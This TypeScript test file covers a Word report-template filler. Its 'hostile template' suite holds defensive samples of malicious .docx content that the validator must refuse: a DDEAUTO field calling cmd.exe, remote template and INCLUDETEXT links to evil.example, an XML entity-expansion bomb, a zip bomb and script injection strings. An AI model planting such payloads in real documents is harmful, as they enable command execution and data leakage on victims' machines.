import { Document, Packer, Paragraph, Table, TableCell, TableRow, TextRun, Header } from 'docx';
import { Zip } from 'easy-template-x';
import mammoth from 'mammoth';
import { describe, expect, it } from '@rstest/core';
import { languages } from '#core';
import type { ThreadTask } from '#core/server';
import type { ReportContent } from '../../report-content';
import { readyTemplates } from '../../template-choice';
import { emptyContent } from './empty-content';
import task, { type TemplateOrder, type TemplateOutcome } from './template-task';

const run = (order: TemplateOrder) =>
  (task as unknown as ThreadTask<null, null, TemplateOrder, TemplateOutcome>).run(null, order);
const word = (...lines: readonly (string | Table)[]): Promise<Buffer> =>
  Packer.toBuffer(
    new Document({
      sections: [
        {
          headers: { default: new Header({ children: [new Paragraph('{标题}')] }) },
          children: lines.map((line) => (typeof line === 'string' ? new Paragraph(line) : line)),
        },
      ],
    }),
  );
const getFaults = async (...lines: readonly (string | Table)[]) => {
  const { faults = [] } = await run({ operation: 'check', template: await word(...lines) });
  return faults.map(
    ({ Reason, Variable, Part, Paragraph: at, Suggestion }) =>
      `${Reason} ${Variable} ${Part} ${at} ${Suggestion ?? ''}`,
  );
};
const textOf = async (file: Uint8Array | undefined): Promise<string> =>
  (await mammoth.extractRawText({ buffer: Buffer.from(file ?? []) })).value;
const changed = async (file: Buffer, name: string, content: string): Promise<Buffer> => {
  const zip = await Zip.load(file);
  zip.setFile(name, content);
  return zip.export(Buffer);
};

const hostile = `</w:t><w:p>" & <b>'\u0000\ud800{total}`;
const content: ReportContent = {
  ...emptyContent,
  title: '舆情周报',
  lead: '本期共监测到 1,234 条。',
  counts: { total: 1234, positive: 100, neutral: 1000, negative: 134 },
  totalBefore: 1000,
  columns: [
    {
      name: '要闻',
      articles: [
        { ...emptyContent.columns[0]!.articles[0]!, title: hostile, url: 'https://a.example/?a=1&b=2', remark: '' },
        {
          ...emptyContent.columns[0]!.articles[0]!,
          title: '第二条',
          url: 'javascript:alert(1)',
          remark: '须跟进',
          isNegative: false,
        },
      ],
    },
  ],
};

describe('a template', () => {
  it('is filled with values, loops, conditions, images and links, with variable names in either language', async () => {
    const template = await word(
      '{标题}：{total}，{环比}',
      '{#全部文章}{序号} {标题} {link}{#备注}【{备注}】{/备注}；{/全部文章}',
      '{#emotion_trend}{name}{chart[width: 300]}{/emotion_trend}',
    );
    expect((await run({ operation: 'check', template })).faults).toEqual([]);
    const { file } = await run({ operation: 'fill', template, content });
    const text = await textOf(file);
    expect(text).toContain('舆情周报：1,234，+23.4%');
    expect(text).toContain(`1 </w:t><w:p>" & <b>'{total}`);
    expect(text).toContain('2 第二条 第二条【须跟进】；');
    const { value: page } = await mammoth.convertToHtml({ buffer: Buffer.from(file ?? []) });
    expect(page).toContain('<a href="https://a.example/?a=1&amp;b=2">&lt;/w:t&gt;&lt;w:p&gt;');
    const zip = await Zip.load(Buffer.from(file ?? []));
    expect(zip.listFiles().filter((name) => name.endsWith('.png'))).toHaveLength(1);
    expect(await zip.getFile('word/_rels/document.xml.rels').getContentText()).not.toContain('javascript');
  });

  it.each(languages.flatMap((language) => readyTemplates.map((name) => [name, language] as const)))(
    'built-in template is valid and can be filled: %s %s',
    async (name, language) => {
      const { file } = await run({ operation: 'make', template: name, language });
      const checked = await run({ operation: 'check', template: file ?? new Uint8Array() });
      expect([checked.faults, checked.unreadable]).toEqual([[], undefined]);
      expect(checked.variables).toBeGreaterThan(20);
      const { file: filled } = await run({ operation: 'fill', template: name, content: { ...content, language } });
      const text = await textOf(filled);
      expect(text).toContain('舆情周报');
      expect(text).toContain('第二条');
      expect(text).not.toMatch(/\{(?!total)/);
      const body = await (await Zip.load(Buffer.from(filled ?? []))).getFile('word/document.xml').getContentText();
      expect(body).not.toMatch(/<w:spacing (?=[^>]*w:line=)(?![^>]*w:lineRule)/);
    },
  );

  it('provides its text, tables, links and charts to other formats', async () => {
    const order = {
      operation: 'blocks',
      template: 'ready-report',
      content: { ...content, lead: '导语一句。' },
    } as const;
    const { blocks = [] } = await run(order);
    expect(blocks.some((block) => block.kind === 'chart' && block.data.categories[0] === '1')).toBe(true);
    expect(blocks.some((block) => block.kind === 'paragraph' && block.text === '导语一句。')).toBe(true);
    expect(blocks.flatMap((block) => (block.kind === 'entry' ? [block.url] : []))).toEqual([
      'https://a.example/?a=1&b=2',
    ]);
    expect(blocks.some((block) => block.kind === 'heading' && block.text === '一、总体情况')).toBe(true);
  });

  it('says which variable is wrong, where it stands, and what was meant', async () => {
    const row = new TableRow({
      children: [new TableCell({ children: [new Paragraph('{#figures}{nmae}{/figures}')] })],
    });
    expect(
      await getFaults(
        '{title}',
        '{titel}',
        '{信息总数}',
        '{#articles}{title}',
        '{/modules}',
        '{/}',
        new Table({ rows: [row] }),
      ),
    ).toEqual([
      'unknown titel body 2 title',
      'unknown 信息总数 body 3 信息总量',
      'unopened  body 6 ',
      'unknown nmae body 7 name',
    ]);
    expect(await getFaults('{articles}', '{a', '}')).toEqual([
      'list articles body 1 ',
      'brace {a body 2 ',
      'brace } body 3 ',
    ]);
    expect(await getFaults('{#columns}{#articles}{#modules}{/}{/}', '{chart}')).toEqual([
      'nested modules body 1 ',
      'unknown chart body 2 ',
      'unclosed columns body 1 ',
    ]);
  });

  it('cannot multiply content: a list cannot be nested in itself', async () => {
    expect(await getFaults('{#articles}{#articles}{title}{/}{/}')).toEqual(['nested articles body 1 ']);
  });

  it('repeats whole paragraphs where a loop is made of them', async () => {
    const template = await word('{#articles}{no}. {link}', '{site}', '{summary}{/articles}', '完');
    const articles = [1, 2].map((each) => ({
      ...emptyContent.columns[0]!.articles[0]!,
      title: `题${each}`,
      url: 'https://a.example/',
      site: `站${each}`,
      summary: `摘${each}`,
    }));
    const { file } = await run({
      operation: 'fill',
      template,
      content: { ...content, columns: [{ name: '', articles }] },
    });
    const lines = (await textOf(file)).split('\n').filter(Boolean);
    expect(lines).toEqual(['1. 题1', '站1', '摘1', '2. 题2', '站2', '摘2', '完']);
  });

  it('recognizes marks that Word has split into runs', async () => {
    const pieces = new Paragraph({
      children: ['{ti', 'tl', 'e}'].map((text) => new TextRun({ text, bold: text === 'tl' })),
    });
    const template = await Packer.toBuffer(new Document({ sections: [{ children: [pieces] }] }));
    expect((await run({ operation: 'check', template })).faults).toEqual([]);
    expect(await textOf((await run({ operation: 'fill', template, content })).file)).toContain('舆情周报');
  });
});

describe('hostile template', () => {
  it('is refused with the reason: programs, entities, external resources', async () => {
    const plain = await word('{title}');
    const reasons = async (template: Buffer) =>
      (await run({ operation: 'check', template })).faults?.map(({ Reason }) => Reason) ?? [];
    expect(await reasons(await changed(plain, 'word/vbaProject.bin', 'x'))).toContain('active');
    const laughs = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><w:ftr>&c;</w:ftr>';
    expect(await reasons(await changed(plain, 'word/footer9.xml', laughs))).toContain('active');
    const outside = `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`;
    expect(await reasons(await changed(plain, 'word/_rels/settings.xml.rels', outside))).toContain('outside');
    const field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>';
    expect(await reasons(await changed(plain, 'word/footer8.xml', field))).toContain('outside');
  });

  const relation = (type: string, target: string, mode = '') =>
    `<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}' Target='${target}'${mode}/></Relationships>`;
  const complex = (...texts: readonly string[]) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const part = (body: string) => `<w:ftr xmlns:w="w">${body}</w:ftr>`;

  it.each([
    [
      'an instruction cut over runs',
      'outside',
      'word/footer9.xml',
      part(complex(' INCLUDE', 'PICTURE "http://evil.example/a.png"')),
    ],
    ['lower case', 'outside', 'word/footer9.xml', part(complex(' includetext "http://evil.example/a"'))],
    [
      'single quotes',
      'outside',
      'word/footer9.xml',
      part("<w:p><w:fldSimple w:instr='INCLUDETEXT http://evil.example'/></w:p>"),
    ],
    ['a character entity', 'outside', 'word/footer9.xml', part(complex('&#73;NCLUDETEXT http://evil.example'))],
    ['a CDATA section', 'outside', 'word/footer9.xml', part(complex('<![CDATA[INCLUDETEXT http://evil.example]]>'))],
    ['another prefix', 'outside', 'word/footer9.xml', '<x:ftr xmlns:x="w"><x:fldSimple x:instr="DDE a b"/></x:ftr>'],
    [
      'a name made by another field',
      'outside',
      'word/footer9.xml',
      part(
        complex(complex('QUOTE 73'), ' "http://evil.example"').replaceAll(
          /<w:instrText>(<w:p>.*<\/w:p>)<\/w:instrText>/g,
          '$1',
        ),
      ),
    ],
    ['an unknown field', 'outside', 'word/footer9.xml', part(complex('DATABASE \\c x'))],
    ['altChunk under another name', 'active', 'word/_rels/footer9.xml.rels', relation('aFChunk', 'media/image9.png')],
    ['the element altChunk', 'active', 'word/footer9.xml', part('<w:altChunk/>')],
    [
      'an external picture in single quotes',
      'outside',
      'word/_rels/footer9.xml.rels',
      relation('image', 'http://evil.example/a.png', " TargetMode = 'external'"),
    ],
    [
      'a link to a share',
      'outside',
      'word/_rels/footer9.xml.rels',
      relation('hyperlink', 'file://evil.example/share', " TargetMode='External'"),
    ],
    ['a page under another extension', 'active', 'word/media/a.html', '<script>alert(1)</script>'],
    ['another encoding', 'active', 'word/footer9.xml', '<?xml version="1.0" encoding="UTF-7"?><w:ftr xmlns:w="w"/>'],
  ])('is refused with %s', async (_, reason, name, content) => {
    const { faults = [] } = await run({
      operation: 'check',
      template: await changed(await word('{title}'), name, content),
    });
    expect(faults.map(({ Reason }) => Reason)).toContain(reason);
  });

  it('is told from one with ordinary fields and links', async () => {
    const fields = part(complex(' PAGE ') + complex(' TO', 'C \\o "1-3"') + complex(' HYPERLINK "https://a.example" '));
    const links = relation('hyperlink', 'https://a.example/', " TargetMode='External'");
    const plain = await word('{title}');
    const template = await changed(
      await changed(plain, 'word/footer9.xml', fields),
      'word/_rels/footer9.xml.rels',
      links,
    );
    expect(await run({ operation: 'check', template })).toMatchObject({ faults: [] });
  });

  it('is not unpacked beyond its limits, and files other than Word documents are not opened', async () => {
    const bomb = await changed(await word('{title}'), 'word/media/a.xml', '0'.repeat(70 * 1024 * 1024));
    expect(await run({ operation: 'check', template: bomb })).toEqual({ unreadable: 'too-large' });
    for (const template of [Buffer.from('PK\u0003\u0004nothing'), Buffer.from('%PDF-1.7'), Buffer.alloc(0)])
      expect(await run({ operation: 'check', template })).toEqual({ unreadable: 'unreadable' });
  });

  it('can be deeply nested and is reported as unreadable', async () => {
    const deep = `<w:document xmlns:w="w"><w:body>${'<w:p>'.repeat(60_000)}${'</w:p>'.repeat(60_000)}</w:body></w:document>`;
    const outcome = await run({
      operation: 'check',
      template: await changed(await word('{title}'), 'word/document.xml', deep),
    });
    expect(outcome.unreadable ?? outcome.faults?.[0]?.Reason).toMatch(/unreadable|unfit/);
  });
});
